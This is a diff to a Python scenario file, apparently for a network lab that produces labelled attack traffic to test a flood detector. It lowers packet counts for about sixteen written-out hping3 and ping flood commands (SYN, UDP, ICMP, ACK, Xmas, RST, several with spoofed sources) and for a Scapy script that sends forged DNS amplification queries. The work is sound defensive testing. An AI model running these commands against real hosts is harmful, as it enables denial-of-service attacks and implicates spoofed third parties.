@@ -4,9 +4,9 @@ import time
 import services
 from kit import play, probe
 
-probe("hping-syn-flood-random", "hping3", "hping3 -q -S -p 80 --rand-source -i u900 -c 900 192.0.2.10", "spoofed-syn-flood", attacker=70, sources=[], targets=["192.0.2.10"],
-      seen={"tcp.flags==2 && ip.dst==192.0.2.10": 780}, bg=("web-in", "dns-out"), note="Every SYN has another source; the answers go nowhere. No source is to blame. One real client comes through.")
-probe("hping-udp-flood", "hping3", "hping3 -q --udp -p 5060 -d 60 -i u700 -c 1500 192.0.2.11", "udp-flood", attacker=73, targets=["192.0.2.11"], seen={"udp && ip.src==198.51.100.73": 1450},
+probe("hping-syn-flood-random", "hping3", "hping3 -q -S -p 80 --rand-source -i u900 -c 540 192.0.2.10", "spoofed-syn-flood", attacker=70, sources=[], targets=["192.0.2.10"],
+      seen={"tcp.flags==2 && ip.dst==192.0.2.10": 452}, bg=("web-in", "dns-out"), note="Every SYN has another source; the answers go nowhere. No source is to blame. One real client comes through.")
+probe("hping-udp-flood", "hping3", "hping3 -q --udp -p 5060 -d 60 -i u700 -c 900 192.0.2.11", "udp-flood", attacker=73, targets=["192.0.2.11"], seen={"udp && ip.src==198.51.100.73": 840},
       bg=("mail-in", "dns-out"), note="One source, one closed port; the port-unreachables are limited to one a second.")
 
 
@@ -28,25 +28,25 @@ def flood(name, command, klass, *, attackers=(121,), bg=("web-in", "dns-out"), n
         yield
 
 
-flood("hping-syn-flood-fixed", "hping3 -q -S -p 80 -i u700 -c 700 192.0.2.10", "syn-flood", attackers=(121,), seen={"tcp.flags==2 && ip.src==198.51.100.121": 660},
+flood("hping-syn-flood-fixed", "hping3 -q -S -p 80 -i u700 -c 420 192.0.2.10", "syn-flood", attackers=(121,), seen={"tcp.flags==2 && ip.src==198.51.100.121": 382},
       note="A real source: its own stack resets each SYN-ACK. Every SYN to one open port.")
-flood("hping-syn-flood-forged-fixed", "hping3 -q -S -p 25 -a 198.51.100.222 -i u800 -c 600 192.0.2.11", "spoofed-syn-flood", attackers=(122,), blame=False, forged=["198.51.100.222"], targets=["192.0.2.11"], bg=("mail-in", "web-in"),
-      seen={"tcp.flags==2 && ip.src==198.51.100.222": 560}, note="The forged address belongs to nobody, so no reset comes: SYN-ACKs are sent again, then the provider's router says host unreachable.")
-flood("hping-syn-flood-no-answer", "hping3 -q -S -p 25 -a 198.51.100.101 -i u800 -c 600 192.0.2.11", "syn-flood", attackers=(123,), blame=False, forged=["198.51.100.101"], targets=["192.0.2.11"], bg=("mail-in", "web-in"), expect="alert",
-      seen={"tcp.flags==2 && ip.src==198.51.100.101": 560}, note="The forged address is a living customer, who resets each SYN-ACK and also reads the web site. From here it cannot be told from a flood of his own: blaming him is an error that cannot be avoided, so either syn-flood or spoofed-syn-flood is right.")
-flood("hping-syn-flood-four-sources", "hping3 -q -S -p 80 -i u3000 -c 200 192.0.2.10", "syn-flood", attackers=(131, 132, 133, 134), seen={"tcp.flags==2 && ip.dst==192.0.2.10": 760}, note="Four real sources at once.")
-flood("hping-syn-flood-closed-port", "hping3 -q -S -p 81 -i u1000 -c 800 192.0.2.10", "syn-flood", attackers=(124,), seen={"tcp.flags==2 && ip.src==198.51.100.124": 780}, note="To a closed port: each SYN is refused at once. No backlog fills, the rate is the harm.", expect="alert")
-flood("hping-syn-flood-inside-out", "hping3 -q -S -p 80 --rand-source -i u900 -c 900 198.51.100.80", "spoofed-syn-flood", attackers=(99,), side="in", blame=False, targets=["198.51.100.80"], need=("pcs", "site", "resolver"), bg=("web-out", "dns-out"),
-      seen={"tcp.flags==2 && ip.dst==198.51.100.80": 780}, note="A host inside floods a server outside with forged sources; the hardware address alone tells who it is.")
-flood("hping-icmp-flood", "hping3 -q --icmp -d 40 -i u1000 -c 700 192.0.2.10", "icmp-flood", attackers=(125,), bg=("ping-in", "web-in"), seen={"icmp.type==8 && ip.src==198.51.100.125": 660}, note="Near a thousand echo requests a second; a customer pings once a second beside it.")
-flood("hping-icmp-flood-random", "hping3 -q --icmp --rand-source -d 32 -i u900 -c 800 192.0.2.10", "icmp-flood", attackers=(126,), blame=False, bg=("ping-in", "web-in"), seen={"icmp.type==8 && ip.dst==192.0.2.10": 650}, note="Forged sources; nobody is to blame.")
-flood("hping-udp-flood-random", "hping3 -q --udp -p ++1000 --rand-source -d 40 -i u900 -c 800 192.0.2.11", "udp-flood", attackers=(127,), blame=False, targets=["192.0.2.11"], bg=("mail-in", "dns-out"), seen={"udp && ip.dst==192.0.2.11": 650}, note="Forged sources, rising ports.")
-flood("hping-udp-flood-three-sources", "hping3 -q --udp -p 53 -d 50 -i u2000 -c 260 192.0.2.12", "udp-flood", attackers=(135, 136, 137), targets=["192.0.2.12"], need=("ns", "www", "clients"), bg=("dns-in", "web-in"), seen={"udp.dstport==53 && ip.dst==192.0.2.12": 740}, note="Three sources send what is no DNS to a name server, which answers real lookups meanwhile.")
-flood("hping-ack-flood", "hping3 -q -A -p 80 -i u800 -c 700 192.0.2.10", "tcp-flag-flood", attackers=(128,), seen={"tcp.flags==0x10 && ip.src==198.51.100.128": 660}, note="ACKs of no connection, each from another port, each answered by RST.")
-flood("hping-ack-flood-random", "hping3 -q -A -p 443 --rand-source -i u800 -c 800 192.0.2.10", "tcp-flag-flood", attackers=(129,), blame=False, seen={"tcp.flags==0x10 && ip.dst==192.0.2.10": 680}, note="The same with forged sources.")
-flood("hping-xmas-flood", "hping3 -q -F -P -U -p 80 -i u800 -c 1000 192.0.2.10", "tcp-flag-flood", attackers=(130,), seen={"tcp.flags==0x29 && ip.src==198.51.100.130": 950}, note="FIN, PSH and URG at an open port: silence, so it is no scan of many ports.")
-flood("hping-rst-flood-two-sources", "hping3 -q -R -p 25 -i u1500 -c 500 192.0.2.11", "tcp-flag-flood", attackers=(138, 139), targets=["192.0.2.11"], bg=("mail-in", "web-in"), seen={"tcp.flags==4 && ip.dst==192.0.2.11": 950}, note="RSTs of no connection from two sources.")
-flood("ping-flood-iputils", "ping -q -f -s 24 -c 600 192.0.2.10", "icmp-flood", attackers=(140,), tool="ping", bg=("web-in",), seen={"icmp.type==8 && ip.src==198.51.100.140": 580}, note="ping -f sends the next as soon as an answer comes.")
+flood("hping-syn-flood-forged-fixed", "hping3 -q -S -p 25 -a 198.51.100.222 -i u800 -c 360 192.0.2.11", "spoofed-syn-flood", attackers=(122,), blame=False, forged=["198.51.100.222"], targets=["192.0.2.11"], bg=("mail-in", "web-in"),
+      seen={"tcp.flags==2 && ip.src==198.51.100.222": 324}, note="The forged address belongs to nobody, so no reset comes: SYN-ACKs are sent again, then the provider's router says host unreachable.")
+flood("hping-syn-flood-no-answer", "hping3 -q -S -p 25 -a 198.51.100.101 -i u800 -c 360 192.0.2.11", "syn-flood", attackers=(123,), blame=False, forged=["198.51.100.101"], targets=["192.0.2.11"], bg=("mail-in", "web-in"), expect="alert",
+      seen={"tcp.flags==2 && ip.src==198.51.100.101": 324}, note="The forged address is a living customer, who resets each SYN-ACK and also reads the web site. From here it cannot be told from a flood of his own: blaming him is an error that cannot be avoided, so either syn-flood or spoofed-syn-flood is right.")
+flood("hping-syn-flood-four-sources", "hping3 -q -S -p 80 -i u3000 -c 120 192.0.2.10", "syn-flood", attackers=(131, 132, 133, 134), seen={"tcp.flags==2 && ip.dst==192.0.2.10": 440}, note="Four real sources at once.")
+flood("hping-syn-flood-closed-port", "hping3 -q -S -p 81 -i u1000 -c 480 192.0.2.10", "syn-flood", attackers=(124,), seen={"tcp.flags==2 && ip.src==198.51.100.124": 452}, note="To a closed port: each SYN is refused at once. No backlog fills, the rate is the harm.", expect="alert")
+flood("hping-syn-flood-inside-out", "hping3 -q -S -p 80 --rand-source -i u900 -c 540 198.51.100.80", "spoofed-syn-flood", attackers=(99,), side="in", blame=False, targets=["198.51.100.80"], need=("pcs", "site", "resolver"), bg=("web-out", "dns-out"),
+      seen={"tcp.flags==2 && ip.dst==198.51.100.80": 452}, note="A host inside floods a server outside with forged sources; the hardware address alone tells who it is.")
+flood("hping-icmp-flood", "hping3 -q --icmp -d 40 -i u1000 -c 420 192.0.2.10", "icmp-flood", attackers=(125,), bg=("ping-in", "web-in"), seen={"icmp.type==8 && ip.src==198.51.100.125": 382}, note="Near a thousand echo requests a second; a customer pings once a second beside it.")
+flood("hping-icmp-flood-random", "hping3 -q --icmp --rand-source -d 32 -i u900 -c 480 192.0.2.10", "icmp-flood", attackers=(126,), blame=False, bg=("ping-in", "web-in"), seen={"icmp.type==8 && ip.dst==192.0.2.10": 377}, note="Forged sources; nobody is to blame.")
+flood("hping-udp-flood-random", "hping3 -q --udp -p ++1000 --rand-source -d 40 -i u900 -c 480 192.0.2.11", "udp-flood", attackers=(127,), blame=False, targets=["192.0.2.11"], bg=("mail-in", "dns-out"), seen={"udp && ip.dst==192.0.2.11": 377}, note="Forged sources, rising ports.")
+flood("hping-udp-flood-three-sources", "hping3 -q --udp -p 53 -d 50 -i u2000 -c 156 192.0.2.12", "udp-flood", attackers=(135, 136, 137), targets=["192.0.2.12"], need=("ns", "www", "clients"), bg=("dns-in", "web-in"), seen={"udp.dstport==53 && ip.dst==192.0.2.12": 429}, note="Three sources send what is no DNS to a name server, which answers real lookups meanwhile.")
+flood("hping-ack-flood", "hping3 -q -A -p 80 -i u800 -c 420 192.0.2.10", "tcp-flag-flood", attackers=(128,), seen={"tcp.flags==0x10 && ip.src==198.51.100.128": 382}, note="ACKs of no connection, each from another port, each answered by RST.")
+flood("hping-ack-flood-random", "hping3 -q -A -p 443 --rand-source -i u800 -c 480 192.0.2.10", "tcp-flag-flood", attackers=(129,), blame=False, seen={"tcp.flags==0x10 && ip.dst==192.0.2.10": 394}, note="The same with forged sources.")
+flood("hping-xmas-flood", "hping3 -q -F -P -U -p 80 -i u800 -c 600 192.0.2.10", "tcp-flag-flood", attackers=(130,), seen={"tcp.flags==0x29 && ip.src==198.51.100.130": 551}, note="FIN, PSH and URG at an open port: silence, so it is no scan of many ports.")
+flood("hping-rst-flood-two-sources", "hping3 -q -R -p 25 -i u1500 -c 300 192.0.2.11", "tcp-flag-flood", attackers=(138, 139), targets=["192.0.2.11"], bg=("mail-in", "web-in"), seen={"tcp.flags==4 && ip.dst==192.0.2.11": 551}, note="RSTs of no connection from two sources.")
+flood("ping-flood-iputils", "ping -q -f -s 24 -c 360 192.0.2.10", "icmp-flood", attackers=(140,), tool="ping", bg=("web-in",), seen={"icmp.type==8 && ip.src==198.51.100.140": 336}, note="ping -f sends the next as soon as an answer comes.")
 
 
 def big_answer(lab):
@@ -58,21 +58,21 @@ DNS_FORGED = '''
 from scapy.all import IP, UDP, DNS, DNSQR, DNSRROPT, send, conf
 import time
 conf.verb = 0
-for i in range(80):
+for i in range(50):
     send(IP(src="198.51.100.103", dst="192.0.2.15") / UDP(sport=1024 + 7 * i, dport=53) / DNS(id=i, rd=1, qd=DNSQR(qname="big.example.net", qtype="TXT"), ar=DNSRROPT(rclass=4096)), iface="eth0")
     time.sleep(0.004)
 '''
 
 
 @play("dns-amplification", "python", "alert", "amplification", need=("www", "clients", "pcs", "resolver"), bg=("web-in", "dns-out"), sources=[], targets=["198.51.100.103"], forged=["198.51.100.103"], border=False,
-      seen={"ip.src==192.0.2.15 && ip.flags.mf==1": 60}, note="80 questions for a TXT record of 2000 octets, forged in the name of a customer, to an open name server; he gets fragments that he did not ask for and answers with port-unreachable. (sender: scapy)")
+      seen={"ip.src==192.0.2.15 && ip.flags.mf==1": 40}, note="50 questions for a TXT record of 2000 octets, forged in the name of a customer, to an open name server; he gets fragments that he did not ask for and answers with port-unreachable. (sender: scapy)")
 def _(lab):
     big_answer(lab)
     eve = lab.host("eve", "out", 141)
     yield
     time.sleep(1)
     services.python(eve, "forged_dns.py", DNS_FORGED)
-    lab.commands.append("python3 forged_dns.py (scapy: 80 x TXT big.example.net with EDNS 4096, source 198.51.100.103, to 192.0.2.15)")
+    lab.commands.append("python3 forged_dns.py (scapy: 50 x TXT big.example.net with EDNS 4096, source 198.51.100.103, to 192.0.2.15)")
     time.sleep(7)
     yield
 
